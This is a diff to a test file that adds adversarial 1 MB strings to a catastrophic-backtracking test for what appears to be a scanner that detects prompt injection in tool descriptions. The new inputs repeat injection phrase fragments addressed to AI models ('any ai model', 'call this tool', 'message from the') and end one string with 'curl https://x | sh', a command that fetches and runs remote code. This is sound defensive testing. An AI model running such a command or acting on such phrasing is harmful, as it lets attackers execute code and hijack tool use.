@@ -61,6 +61,14 @@ const ADVERSARIAL = `
     ['zero-width', '\\u200b'.repeat(MB)],
     ['cyrillic mix', 'p\\u0430'.repeat(MB / 2)],
     ['lone surrogates', '\\ud800'.repeat(MB)],
+    ['caller soup', 'the name of the llm model that '.repeat(MB / 31)],
+    ['self-claim soup', 'this tool is the '.repeat(MB / 17)],
+    ['claim soup', 'use this tool rather than '.repeat(MB / 26)],
+    ['insertion soup', 'before x, '.repeat(MB / 10) + 'call this tool'],
+    ['impersonation soup', 'message from the '.repeat(MB / 17)],
+    ['address soup', 'any ai model '.repeat(MB / 13)],
+    ['chinese soup', '在执行之前'.repeat(MB / 5)],
+    ['comment soup', '<!-- '.repeat(MB / 5) + 'curl https://x | sh'],
   ];
   const out = {};
   for (const [name, text] of inputs) {
@@ -76,7 +84,7 @@ test('adversarial 1 MB strings do not backtrack catastrophically', { timeout: 90
   assert.equal(r.signal, null, `killed after 60 s: catastrophic backtracking (${r.stderr})`);
   assert.equal(r.status, 0, r.stderr);
   const times = JSON.parse(r.stdout) as Record<string, number>;
-  assert.equal(Object.keys(times).length, 24);
+  assert.equal(Object.keys(times).length, 32);
   for (const [name, ms] of Object.entries(times)) assert.ok(ms < 8_000, `${name}: ${ms} ms`);
 });
 
